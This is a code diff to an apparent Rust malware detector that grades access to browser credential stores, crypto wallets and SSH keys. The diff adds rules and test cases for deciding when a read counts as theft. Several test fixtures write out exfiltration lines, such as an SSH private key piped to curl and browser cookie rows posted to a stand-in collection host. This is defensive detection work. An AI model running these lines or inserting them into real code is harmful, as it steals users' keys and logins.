@@ -7,15 +7,24 @@
 //! (Telegram's lower-case `tdata` folder followed by a path separator; `TDATA\n` in a C
 //! message is a word before an escape, not a path).
 //!
-//! Browser/wallet/session paths are High; install time Critical. An SSH key is
+//! Browser/wallet/session paths are High; install time Critical. In code that does not run on
+//! import (a function no import-time code reaches, a constant the file's functions use), in a
+//! file that reads but sends nothing (no HTTP send, socket, SMTP or `curl`/`wget` pipeline; a
+//! `Request(url)` of the caller's URL alone is no send), they are Medium: a client reading the store its caller
+//! names (a downloader's "cookies from browser" option); the same read with a sink in the
+//! file, at module level, or called on import stays High, and a bare list of store paths
+//! (a target list read elsewhere) stays High. An SSH key is
 //! stolen only when it is read *and* sent: High needs a read (`open`, `read_text`,
 //! `cat`, a copy) and a data sink (`requests.post`, `sendall`, SMTP, a `curl`/`wget`
 //! pipeline…) in the same file; a read without a sink is an SSH client using its key
 //! (automation tools, SSH libraries, schedulers' SSH hooks: Medium); a mention without
-//! a read (a CLI that tells the user where to put a key) is Low. Developer-tool config
+//! a read (a CLI that tells the user where to put a key) is Low; a key path handed to an SSH
+//! client (`IdentityFile ~/.ssh/id_rsa`, `ssh -i`, `key_filename=`) is Medium whatever the
+//! file reads or sends: ssh uses the key, nothing ships it. Developer-tool config
 //! is Medium when read (the matching tools legitimately read their own config), Low
 //! when only named. A path a delete command removes (`rm`, `del`, `os.remove`) is Low:
-//! nothing is read. Python comments/docstrings, tests and docs are skipped.
+//! nothing is read. A path segment of a web URL (`https://host/guarda/…`, not `file://`) is
+//! no local path. Python comments/docstrings, tests and docs are skipped.
 
 use super::context;
 use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
@@ -27,7 +36,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "file-system.credential-access",
-    revision: 5,
+    revision: 7,
     title: "Accesses stored credentials, browser data or crypto wallets.",
     category: Category::FileSystem,
     severity: Severity::High,
@@ -86,10 +95,24 @@ fn reads_and_sends(src: &Source<'_>) -> (bool, bool) {
     let reads = READ.find_iter(src.text).any(|m| !src.python || src.is_live(m.start()));
     let sends = sinks::find(src, &[SinkKind::Send])
         .iter()
-        .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection"))
-        || SHELL_SEND.find_iter(src.text).any(|m| !src.python || src.kind_at(m.start()) == Kind::Str)
+        .any(|s| !s.name.ends_with("connect") && !s.name.ends_with("create_connection") && !bare_request(src.text, s))
+        || SHELL_SEND
+            .find_iter(src.text)
+            .any(|m| (!src.python || src.kind_at(m.start()) == Kind::Str) && !src.text[m.end()..].starts_with('.'))
         || [&*RAW_SOCKET, &*SEND_CALL].iter().all(|re| re.find_iter(src.text).any(|m| src.is_code(m.start())));
     (reads, sends)
+}
+
+/// `urllib.request.Request(url)` built from the caller's URL alone (no body, no literal in the
+/// call: `Request(normalize_url(url))`, a cookie jar asked which cookies a URL gets) sends
+/// nothing by itself. A body, a second argument or a literal endpoint keep it a send.
+fn bare_request(text: &str, sink: &sinks::Sink<'_>) -> bool {
+    if !sink.name.ends_with("Request") {
+        return false;
+    }
+    let after = text[sink.offset..].find('(').map_or(text.len(), |p| sink.offset + p + 1);
+    let args = pysrc::call_argument(text, after, 400);
+    super::fold::split_args(args).len() == 1 && !args.contains(['\'', '"', '='])
 }
 
 pub(crate) struct CredentialAccess;
@@ -157,13 +180,25 @@ impl Detector for CredentialAccess {
                 return;
             }
             let m = c.get(0).expect("m");
-            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
+            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str)
+                || in_web_url(file.text, m.start())
+            {
                 continue;
             }
             let ssh = m.as_str().contains("id_");
             let (reads, sends) = *read_send.get_or_init(|| reads_and_sends(src));
             let sev = match (install, c.name("high").is_some()) {
                 (true, _) => Severity::Critical,
+                // A key handed to ssh (`IdentityFile ~/.ssh/id_rsa`, `ssh -i ~/.ssh/id_rsa`,
+                // `key_filename=`): a client using its key, whatever else the file reads or sends.
+                (false, true) if ssh && handed_to_ssh(file.text, m.start()) => Severity::Medium,
+                // A store named in code that does not run on import (a function body, a constant
+                // the file's functions use), in a file that reads but sends nothing: a client
+                // using the store its caller picks (a downloader's "cookies from browser" option,
+                // a profile manager's list of files to keep). Stealing needs a read *and* a sink.
+                (false, true) if !ssh && reads && !sends && !pysrc::runs_on_import_at(src, m.start()) => {
+                    Severity::Medium
+                }
                 (false, true) if !ssh || reads && sends => Severity::High,
                 (false, _) if reads => Severity::Medium,
                 (false, _) => Severity::Low,
@@ -185,6 +220,34 @@ impl Detector for CredentialAccess {
             hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, m.start(), ind) });
         }
     }
+}
+
+/// Whether the match at `at` is a path segment of a web URL (`https://host.it/guarda/…` in a
+/// URL pattern, where a wallet folder's name is an Italian word): the URL token (back to the
+/// last blank or quote on the line) holds `://` and is not a `file://` URL, which names a local path.
+fn in_web_url(text: &str, at: usize) -> bool {
+    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
+    let token_start = text[line_start..at].rfind([' ', '\t', '\'', '"']).map_or(line_start, |p| line_start + p + 1);
+    let token = &text[token_start..at];
+    token.find("://").is_some_and(|i| !token[..i].to_ascii_lowercase().ends_with("file"))
+}
+
+/// An option that hands an SSH client the key path that follows: `IdentityFile`, `ssh -i`,
+/// `-o IdentityFile=`, paramiko's `key_filename=`, Ansible's `ansible_ssh_private_key_file=`.
+static SSH_KEY_OPTION: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:\bIdentityFile[ \t]*=?|(?:^|[ \t'"])-i|\bkey_filename|\bssh_private_key(?:_file|_path)?|\bprivate_key_file)[ \t]*[:=]?[ \t]*['"]?[ \t]*$"#)
+        .expect("ssh key option")
+});
+
+/// Whether the key path at `at` is the value of an option that hands it to an SSH client
+/// (the text from the line start, or from the last `~`/`$HOME`-free quote, ends in the option).
+fn handed_to_ssh(text: &str, at: usize) -> bool {
+    let line_start = text[..at].rfind('\n').map_or(0, |p| p + 1);
+    let before = &text[line_start..at];
+    // The path itself may start with `~/`, `$HOME/`, `{home}/` or `os.path.expanduser("~/`.
+    let before = before.trim_end_matches(['~', '/', '\\', '.']);
+    let before = before.strip_suffix("$HOME").or_else(|| before.strip_suffix("${HOME}")).unwrap_or(before);
+    SSH_KEY_OPTION.is_match(before)
 }
 
 /// Whether the path at `at` is what a delete command removes (`rm -rf cert9.db key4.db` in a
@@ -230,10 +293,10 @@ mod tests {
                     Some((2, "cookies.sqlite", Low)),
                 ),
                 (
-                    "the same store copied, then the copy removed, stays high",
+                    "the same store copied on import, then the copy removed, stays high",
                     "pkg/a.py",
                     Runtime,
-                    "def grab(profile, tmp):\n    shutil.copy(os.path.join(profile, 'key4.db'), tmp)\n    os.remove(tmp)\n",
+                    "import os, shutil\nshutil.copy(os.path.join(profile, 'key4.db'), tmp)\nos.remove(tmp)\n",
                     Some((2, "key4.db", High)),
                 ),
                 (
@@ -242,6 +305,104 @@ mod tests {
                     Runtime,
                     "rm -f /tmp/x; cp ~/.mozilla/firefox/*/key4.db /tmp/x\n",
                     Some((1, "key4.db", High)),
+                ),
+                (
+                    "a downloader reading the browser's cookie store its caller names, sending nothing",
+                    "pkg/cookies.py",
+                    Runtime,
+                    "import sqlite3\n\ndef load(browser, root):\n    path = os.path.join(root, browser, 'cookies.sqlite')\n    con = sqlite3.connect(path)\n    return con.execute('SELECT host, name, value FROM moz_cookies').fetchall()\n",
+                    Some((4, "cookies.sqlite", Medium)),
+                ),
+                (
+                    "the same read in a file that posts what it read stays high",
+                    "pkg/cookies.py",
+                    Runtime,
+                    "import sqlite3, requests\n\ndef load(browser, root):\n    path = os.path.join(root, browser, 'cookies.sqlite')\n    rows = sqlite3.connect(path).execute('SELECT * FROM moz_cookies').fetchall()\n    requests.post('https://collect.example/c', json=rows)\n",
+                    Some((4, "cookies.sqlite", High)),
+                ),
+                (
+                    "the same read called by module-level code (runs on import) stays high",
+                    "pkg/cookies.py",
+                    Runtime,
+                    "import sqlite3\n\ndef load(root):\n    path = os.path.join(root, 'Default', 'Login Data')\n    return sqlite3.connect(path).execute('SELECT * FROM logins').fetchall()\n\nROWS = load(os.environ['LOCALAPPDATA'])\n",
+                    Some((4, "Login Data", High)),
+                ),
+                (
+                    "a module-level read of a browser's key file stays high",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import os\nKEY = open(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Local State')).read()\n",
+                    Some((2, "Local State", High)),
+                ),
+                (
+                    "a profile manager's module-level list of files to keep, copying but sending nothing",
+                    "pkg/profiles.py",
+                    Runtime,
+                    "import shutil\nKEEP = {'Cookies', 'Preferences', 'Login Data', 'Web Data'}\n\ndef shrink(src, dst):\n    for name in KEEP:\n        shutil.copy(os.path.join(src, name), dst)\n",
+                    Some((2, "Login Data", Medium)),
+                ),
+                (
+                    "a cookie jar asked which cookies a URL gets is no send",
+                    "pkg/cookies.py",
+                    Runtime,
+                    "\"\"\"See https://curl.haxx.se/docs/http-cookies.html\"\"\"\ndef load(root, url):\n    jar = read_jar(sqlite3.connect(os.path.join(root, 'cookies.sqlite')))\n    return jar.for_request(urllib.request.Request(normalize(url)))\n",
+                    Some((3, "cookies.sqlite", Medium)),
+                ),
+                (
+                    "a request carrying the cookies to a literal endpoint stays high",
+                    "pkg/cookies.py",
+                    Runtime,
+                    "def load(root):\n    rows = sqlite3.connect(os.path.join(root, 'cookies.sqlite')).execute('SELECT *').fetchall()\n    urllib.request.urlopen(urllib.request.Request('https://collect.example/c', data=dump(rows)))\n",
+                    Some((2, "cookies.sqlite", High)),
+                ),
+                (
+                    "a list of browser stores with no read in the file (read elsewhere) stays high",
+                    "pkg/targets.py",
+                    Runtime,
+                    "def targets():\n    return ['Login Data', 'Web Data']\n",
+                    Some((2, "Login Data", High)),
+                ),
+                (
+                    "an ssh config template naming the identity file, in a script that also curls",
+                    "pkg/templates/cluster.yml.j2",
+                    Runtime,
+                    "setup: |\n  curl -sSL https://example.com/x.sh -o x.sh\n  mkdir -p ~/.ssh; cat ~/.ssh/config\n  printf 'Host *\\n  IdentityFile ~/.ssh/id_ed25519\\n' >> ~/.ssh/config\n",
+                    Some((4, ".ssh/id_ed25519", Medium)),
+                ),
+                (
+                    "ssh -i with the user's key",
+                    "pkg/run.sh",
+                    Runtime,
+                    "cat hosts.txt | while read h; do ssh -i ~/.ssh/id_rsa \"$h\" uptime; done\ncurl -d ok https://example.com/done\n",
+                    Some((1, ".ssh/id_rsa", Medium)),
+                ),
+                (
+                    "the key itself piped to curl stays high",
+                    "pkg/run.sh",
+                    Runtime,
+                    "cat ~/.ssh/id_rsa | curl -d @- https://collect.example/k\n",
+                    Some((1, ".ssh/id_rsa", High)),
+                ),
+                (
+                    "a wallet folder's name as a path segment of a web URL pattern",
+                    "pkg/extractor/site.py",
+                    Runtime,
+                    "class IE:\n    _VALID_URL = r'https?://(?:www\\.)?popcorn\\.example/guarda/(?P<id>[^/]+)'\n",
+                    None,
+                ),
+                (
+                    "the wallet folder in a file:// URL stays a local path",
+                    "pkg/a.py",
+                    Runtime,
+                    "P = 'file:///C:/Users/me/AppData/Roaming/Guarda/'\n",
+                    Some((1, "Guarda/", High)),
+                ),
+                (
+                    "the wallet folder joined to a local directory",
+                    "pkg/a.py",
+                    Runtime,
+                    "P = os.path.join(APPDATA, 'Guarda/')\n",
+                    Some((1, "Guarda/", High)),
                 ),
                 (
                     "a C trace message naming a thread-data mode",
